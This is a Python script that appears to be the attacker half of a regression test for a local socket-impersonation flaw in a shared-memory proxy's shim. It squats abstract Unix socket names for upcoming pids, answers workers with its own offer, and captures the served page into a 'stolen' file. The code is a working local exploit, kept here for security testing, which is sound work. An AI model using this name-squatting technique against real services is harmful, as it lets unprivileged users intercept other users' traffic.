"""Attacker (run as nobody) for tests/attack/t_shim_adopted.sh: a fake shim offer service.

The shim once let the processes forked from a server whose listening process had exited ask
for offers at the abstract name colo/1/shim/adopted/<pid of that process>, without checking who
held it. This binds that name for a range of upcoming pids, and answers any request with a genuine offer of its own: it owns
TCP port Q and the rendezvous colo/1/127.0.0.1:Q, and starts its own client under `colo run`
(curl http://127.0.0.1:Q/PATH), whose HELLO it forwards. A worker that took that offer for a
real client's connection would serve curl's request (over shared memory) and the attacker would
read the page.

usage: shim_fake_service.py OUTDIR COUNT PATH COLORUN...
writes OUTDIR/attacker.log (REQUEST/ANSWERED lines) and OUTDIR/stolen (curl's output).
"""
import os
import selectors
import socket
import subprocess
import sys
import time

out, count, path, colorun = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4:]
log = open(os.path.join(out, "attacker.log"), "a", buffering=1)

# The attacker's own TCP port and rendezvous (a port it owns: its client trusts it).
tcp = socket.socket()
tcp.bind(("127.0.0.1", 0))
tcp.listen(16)
q = tcp.getsockname()[1]
rdv = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
rdv.bind(b"\0colo/1/127.0.0.1:%d" % q)
rdv.listen(16)

pid_max = int(open("/proc/sys/kernel/pid_max").read())
last = int(open("/proc/sys/kernel/ns_last_pid").read())
sel = selectors.DefaultSelector()
bound = 0
for i in range(1, count + 1):
    # The kernel hands out pids below pid_max, and after it wraps starts again at 300
    # (RESERVED_PIDS): `% pid_max or 1` named pid 1 twice, and a wrap within the range (this
    # host's pid_max is 32768) then left one name unbound.
    pid = last + i if last + i < pid_max else 300 + (last + i - pid_max)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        s.bind(b"\0colo/1/shim/adopted/%d" % pid)
        s.listen(64)
    except OSError:
        s.close()
        continue
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ, pid)
    bound += 1
log.write("BOUND %d names for pids %d..%d\n" % (bound, last + 1, last + count))
print("READY", last + 1, last + count, flush=True)


def genuine_offer():
    """Starts the attacker's own colo client towards port q; returns its HELLO's descriptors."""
    env = dict(os.environ, COLO_CARRIER_TIMEOUT_MS="3000", COLO_SHORT_LIVED="accelerate")
    stolen = open(os.path.join(out, "stolen"), "ab")
    subprocess.Popen(colorun + ["curl", "-s", "-m", "8", "http://127.0.0.1:%d%s" % (q, path)],
                     stdout=stolen, stderr=subprocess.DEVNULL, env=env)
    rdv.settimeout(2)
    try:
        control, _ = rdv.accept()
    except OSError:
        return None
    control.settimeout(1)
    try:
        msg, fds, _, _ = socket.recv_fds(control, 64, 8)
    except OSError:
        return None
    if len(fds) != 1:
        return None
    return control, fds, msg


deadline = time.time() + float(os.environ.get("ATTACK_SECONDS", "60"))
kept = []
while time.time() < deadline:
    for key, _ in sel.select(timeout=0.2):
        if key.data is None:
            continue
        try:
            c, _ = key.fileobj.accept()
        except OSError:
            continue
        c.settimeout(1)
        try:
            req = c.recv(256)
        except OSError:
            req = b""
        log.write("REQUEST on a name for pid %d: %r\n" % (key.data, req))
        got = genuine_offer()
        if got is None:
            log.write("no offer of our own to answer with\n")
            continue
        control, fds, _ = got
        # The old answer: [1, mode] and the offer's control socket and memfd.
        try:
            socket.send_fds(c, [bytes([1, 2])], [control.fileno()] + fds)
            log.write("ANSWERED with our own segment\n")
        except OSError as e:
            log.write("answer failed: %s\n" % e)
        kept.append((c, control, fds))
    # Let the attacker's own TCP connections complete.
    tcp.setblocking(False)
    try:
        kept.append(tcp.accept())
    except OSError:
        pass
